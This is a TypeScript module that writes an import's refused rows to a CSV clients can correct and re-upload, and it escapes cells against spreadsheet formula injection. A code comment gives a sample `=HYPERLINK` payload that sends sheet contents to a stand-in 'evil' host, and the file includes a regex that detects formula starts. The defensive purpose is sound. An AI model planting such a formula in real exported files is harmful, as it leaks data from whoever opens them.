// The errors of an import as a CSV the client can fix and upload again: the file's own columns
// first (so the same mapping applies), then the row number and the problems.
import type { RowError } from './validate-rows';

/** The headers appended after the file's own columns. */
export const ERROR_CSV_EXTRA_HEADERS = ['Import row', 'Import errors'] as const;

/** One CSV field, quoted when it holds a delimiter, a quote, a line break or edge spaces (RFC 4180). */
export function csvField(value: string): string {
  return /[",\r\n]|^\s|\s$/.test(value) ? `"${value.replace(/"/g, '""')}"` : value;
}

// A cell starting with one of these is read as a formula by Excel and LibreOffice (CSV injection):
// `=HYPERLINK("http://evil/?"&A1)` would leak the sheet when staff open the file.
const FORMULA_START = /^[=+\-@\t\r]/;
const ESCAPED_FORMULA_START = /^'(?=[=+\-@\t\r])/;

/** A cell made inert for spreadsheets: a leading `'` when it would start a formula (OWASP's advice). */
export function escapeFormulaCell(value: string): string {
  return FORMULA_START.test(value) ? `'${value}` : value;
}

/** The inverse of escapeFormulaCell: drops one `'` only where it stands before a formula start. */
export function unescapeFormulaCell(value: string): string {
  return value.replace(ESCAPED_FORMULA_START, '');
}

/** One CSV line (without its line break), every cell made inert against formula injection. */
export function csvLine(values: readonly string[]): string {
  return values.map((value) => csvField(escapeFormulaCell(value))).join(',');
}

/** A refused row: its cells as read from the file and its problems. */
export interface ErrorRow {
  row: number;
  cells: readonly string[];
  errors: readonly RowError[];
}

/** Joins a row's problems into one cell, each field by its label on screen: "File number: File number is required.; …". */
export function describeRowErrors(errors: readonly RowError[], labelOf: (field: string) => string = (field) => field): string {
  return errors.map((error) => `${labelOf(error.field)}: ${error.message}`).join('; ');
}

/**
 * The error CSV: the original headers (minus earlier error columns, so a fixed file can go round
 * again), "Import row" and "Import errors" (fields named by `labelOf`, the labels on screen); CRLF line breaks and a BOM so spreadsheets read UTF-8.
 */
export function buildErrorCsv(headers: readonly string[], rows: readonly ErrorRow[], labelOf?: (field: string) => string): string {
  const keep = headers.map((header, index) => ({ header, index })).filter(({ header }) => !(ERROR_CSV_EXTRA_HEADERS as readonly string[]).includes(header));
  const lines = [csvLine([...keep.map(({ header }) => header), ...ERROR_CSV_EXTRA_HEADERS])];
  for (const row of rows) {
    lines.push(csvLine([...keep.map(({ index }) => row.cells[index] ?? ''), String(row.row), describeRowErrors(row.errors, labelOf)]));
  }
  return `\uFEFF${lines.join('\r\n')}\r\n`;
}
